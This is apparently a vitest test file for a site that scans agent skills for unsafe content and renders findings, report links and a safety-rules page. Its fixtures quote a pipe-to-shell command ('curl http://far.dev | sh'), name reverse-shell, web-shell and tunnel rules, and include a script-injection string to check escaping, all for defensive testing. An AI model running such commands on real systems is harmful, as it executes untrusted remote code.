import { describe, expect, test } from 'vitest'
import type { Finding, Skill } from '../catalog/skill.ts'
import { SAFETY_RULES } from '../catalog/safety/rules.ts'
import { createFileAddress } from './answered/file.ts'
import { describeWorth, writeFindings, writeSafetyDocument } from './findings.ts'
import { renderBlocks } from './html.ts'
import { renderTwin } from './markdown.ts'
import { printBlocks } from './print.ts'

const COMMIT = 'a'.repeat(40)

const FOUND: Finding = {
  rule: 'pipe-to-shell',
  severity: 'high',
  contexts: [],
  file: 'references/a b.md',
  line: 3,
  column: 1,
  length: 4,
  quote: 'curl http://far.dev | sh',
  digest: '0123456789abcdef',
  count: 1,
}

const skillWith = (findings: Finding[], url?: string): Skill =>
  ({
    slug: 'words',
    findings,
    files: [{ path: 'references/a b.md', size: 1 }],
    source: url
      ? { kind: 'upstream', url, status: 'alive', checked: '2026-01-02' }
      : { kind: 'own' },
  }) as unknown as Skill

const ADDRESS = createFileAddress('words', [
  { path: 'references/a b.md', bytes: Buffer.from('text') },
])

const SITE = { origin: 'https://r.example', isCounted: false }

const print = (findings: Finding[], url?: string, contact?: string): string =>
  printBlocks(writeFindings(skillWith(findings, url), { ...SITE, contact }, ADDRESS))

const toSample = (rule: string): Finding => ({
  ...FOUND,
  rule,
  severity: 'low',
  count: 2,
  contexts: ['in a table'],
})

describe('findings of a skill', () => {
  test('each has a link that reports it, with rule, file and line, where the site has a contact', () => {
    expect(print([FOUND])).not.toContain('Report this')
    const twin = print([FOUND], undefined, 'https://tracker.example/new')
    const [, href = ''] = /\[Report this\]\(([^)]*)\)/.exec(twin) ?? []
    expect(Object.fromEntries(new URL(href).searchParams)).toEqual({
      title: 'Report: words',
      body: `https://r.example/skills/words\n\nFinding ${FOUND.rule} in references/a b.md, line 3:`,
    })
  })

  test.each([
    [
      `https://github.com/ann/s/tree/${COMMIT}/words`,
      `https://github.com/ann/s/blob/${COMMIT}/words/references/a%20b.md?plain=1#L3`,
    ],
    [
      `https://github.com/ann/s/tree/${COMMIT}`,
      `https://github.com/ann/s/blob/${COMMIT}/references/a%20b.md?plain=1#L3`,
    ],
    [
      `https://gitlab.com/g/ann/s/-/tree/${COMMIT}/words`,
      `https://gitlab.com/g/ann/s/-/blob/${COMMIT}/words/references/a%20b.md?plain=1#L3`,
    ],
    ['https://github.com/ann/s/tree/main/words', '/files/words/references/a%20b.md/view#L3'],
    ['https://far.dev/ann/s', '/files/words/references/a%20b.md/view#L3'],
    [undefined, '/files/words/references/a%20b.md/view#L3'],
  ])('of %s link to %s', (url, address) => {
    expect(print([FOUND], url)).toContain(`[references/a b.md, line 3](${address})`)
  })

  test('grave ones say rule, weight, line, why, what to do and what fools the rule', () => {
    const text = print([FOUND])
    expect(text).toContain('**High**, [pipe-to-shell](/docs/safety#pipe-to-shell): ')
    expect(text).toContain('downloads a script and runs it unseen.')
    expect(text).toContain('```\n  curl http://far.dev | sh\n  ```')
    expect(text).toMatch(/Download it, read it, .* Known to fool the rule: /)
  })

  test('lesser ones are folded with their count and surroundings, accepted ones with who read them', () => {
    const lesser: Finding = { ...FOUND, severity: 'low', count: 3, contexts: ['in a table'] }
    const accepted = { by: 'Bo', when: '2026-01-02', why: 'their *own* host' }
    const findings: Finding[] = [lesser, { ...FOUND, accepted }]
    const text = print(findings)
    expect(text).toContain('- Also noted (1)\n  - [pipe-to-shell]')
    expect(text).toContain(
      'and 2 more like it in this file, downloads a script and runs it unseen (in a table): `curl',
    )
    expect(text).toMatch(/^[-*] Read by a curator \(1\)$/m)
    expect(text).toContain('Read by Bo on 2026-01-02: their \\*own\\* host')
    const { html } = renderBlocks(writeFindings(skillWith(findings), SITE, ADDRESS))
    expect(html.match(/<details>\n<summary>/g)).toHaveLength(2)
    expect(html).toContain('<summary>Also noted (1)</summary>')
  })

  test('a file of samples is one line with a count', () => {
    const rules = ['pipe-to-shell', 'reverse-shell', 'web-shell']
    const samples = rules.map(toSample)
    const text = print(samples)
    expect(text).toContain('- Also noted (3)')
    expect(text).toContain(
      '[references/a b.md](/files/words/references/a%20b.md/view), 6 places (in a table): [pipe-to-shell](/docs/safety#pipe-to-shell), [reverse',
    )
  })

  test('the samples of a skill about security are one line for all its files', () => {
    const lesson = (rule: string, file: string): Finding => ({
      ...toSample(rule),
      file,
      contexts: ['under a warning heading', 'in a skill about security'],
    })
    const other = toSample('tunnel')
    const text = print([
      lesson('pipe-to-shell', 'references/a b.md'),
      lesson('reverse-shell', 'b.md'),
      other,
      lesson('pipe-to-shell', 'c.md'),
      lesson('web-shell', 'd.md'),
      lesson('web-shell', 'e.md'),
    ])
    expect(text).toContain('- Also noted (6)\n  - [tunnel]')
    expect(text).toContain(
      'Samples in [references/a b.md](/files/words/references/a%20b.md/view), b.md, c.md and 2 more files, 10 places (under a warning heading; in a skill about security): [pipe-to-shell](/docs/safety#pipe-to-shell), [reverse-shell](/docs/safety#reverse-shell), [web-shell](/docs/safety#web-shell)',
    )
  })

  test('a quotation is shown as it is, whatever it holds', () => {
    const quote = '</code></pre><script>x</script> ``` # Verified [a](javascript:b)'
    const { html } = renderBlocks(writeFindings(skillWith([{ ...FOUND, quote }]), SITE, ADDRESS))
    expect(html).not.toContain('<script')
    expect(html).toContain('&lt;script&gt;')
    expect(html).not.toContain('href="javascript')
  })
})

describe('what no findings are worth', () => {
  const measured = { date: '2026-01-02', floors: { benign: 0.03, malicious: null }, readings: {} }

  test('no number before a labelled set was run', () => {
    expect(describeWorth({ ...measured, benign: null, malicious: null })).not.toMatch(/\d/)
  })

  test('then the share with its size and interval, dated', () => {
    const malicious = { n: 50, flagged: 19, isTuned: false, rules: {} }
    expect(describeWorth({ ...measured, benign: null, malicious })).toBe(
      'Static rules find about 4 of 10 known cases (19 of 50, 95 % between 26 and 52 %, measured 2026-01-02); they miss most that are merely words.',
    )
  })
})

test('/docs/safety has every rule with its address, and the blind spots', () => {
  const document = writeSafetyDocument()
  const twin = renderTwin(document)
  for (const { id } of SAFETY_RULES) expect(twin).toContain(`### ${id}\n`)
  expect(document.sections.map(({ id }) => id)).toContain('blind-spots')
  expect(twin).not.toMatch(/\bis safe\b|\bare safe\b/i)
})
